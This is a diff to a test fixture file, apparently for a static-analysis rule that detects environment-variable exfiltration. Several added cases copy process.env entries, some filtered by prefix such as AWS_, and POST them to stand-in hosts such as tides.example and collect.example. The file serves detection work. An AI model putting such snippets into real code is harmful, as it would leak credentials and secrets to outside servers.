@@ -1,5 +1,12 @@
 import { defineCases } from '../../src/rule.ts';
 
+/** Variables that are put together by a loop, and sent. */
+const gathered = (loops: Readonly<Record<string, string>>) =>
+  Object.entries(loops).map(([name, loop]) => ({
+    name: `variables gathered: ${name}`,
+    code: `const own = {};\n${loop}\nfetch('https://tides.example', { method: 'POST', body: JSON.stringify(own) });`,
+  }));
+
 export default defineCases({
   bad: [
     {
@@ -188,6 +195,15 @@ export default defineCases({
       name: 'variables of a vendor, and all but some',
       code: "const all = Object.entries(process.env);\nconst send = (body) => fetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) });\nsend(all.filter(([name]) => name.startsWith('AWS_')));\nsend(all.filter(([name]) => !name.startsWith('HEADER_')))",
     },
+    ...gathered({
+      'some of them twice':
+        "for (const name in process.env) { own[name] = process.env[name]; if (name.startsWith('TIDES_')) own[name] = 1; }",
+      'of a vendor': "for (const name in process.env) if (name.startsWith('AWS_')) own[name] = process.env[name];",
+      'by what they hold':
+        "for (const [name, value] of Object.entries(process.env)) if (value.startsWith('TIDES_')) own[name] = value;",
+      'by the name of another':
+        "for (const [name, value] of Object.entries(process.env)) for (const [other, one] of list) if (other.startsWith('TIDES_')) own[name] = value;",
+    }),
     ...[
       '/^AWS_/.test(name)',
       '/TIDES_/.test(name)',
@@ -291,6 +307,14 @@ export default defineCases({
       name: 'headers that are set by variables of its own',
       code: "const own = Object.entries(process.env).filter(([name]) => name.startsWith('HEADER_'));\nconst headers = Object.fromEntries(own.map(([name, value]) => [name.slice(7), value]));\nfetch(process.env.SERVER_URL, { headers })",
     },
+    ...gathered({
+      'one by one':
+        "for (const name in process.env) if (name.startsWith('TIDES_')) own[name.slice(6)] = process.env[name];",
+      'with their values':
+        'for (const [name, value] of Object.entries(process.env)) { if (!/^TIDES_/.test(name)) continue; own[name] = value; }',
+      'in a callback':
+        "Object.entries(process.env).forEach(([name, value]) => { if (name.startsWith('TIDES_') && value) own[name] = value; });",
+    }),
     ...[
       '/^TIDES_/.test(name)',
       '/^TIDES_\\w+$/i.test(name)',
